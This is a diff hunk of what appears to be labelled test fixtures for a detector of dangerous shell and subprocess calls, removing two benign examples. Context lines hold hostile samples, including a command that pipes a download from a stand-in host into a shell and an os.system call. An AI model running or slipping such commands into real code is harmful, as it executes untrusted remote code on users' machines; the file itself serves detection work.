@@ -195,17 +195,6 @@ tempfile._os.system("id")
 import subprocess
 OPTS = {"shell": True}
 subprocess.run("curl -s http://x/s | sh", **OPTS)
-#@ neg a run(cmd, **kw) wrapper given lists
-import subprocess
-def run(cmd, **kw):
-    return subprocess.run(cmd, check=True, **kw)
-run(["git", "log", "--format=%h|%s"], capture_output=True)
-#@ neg a test command from argparse, its default an ordinary tool
-import argparse, subprocess
-ap = argparse.ArgumentParser()
-ap.add_argument("cmd", nargs="*", default=["make", "test"])
-args = ap.parse_args()
-subprocess.run(args.cmd)
 #@ pos an argparse default that pipes a download to a shell
 import argparse, subprocess
 ap = argparse.ArgumentParser()
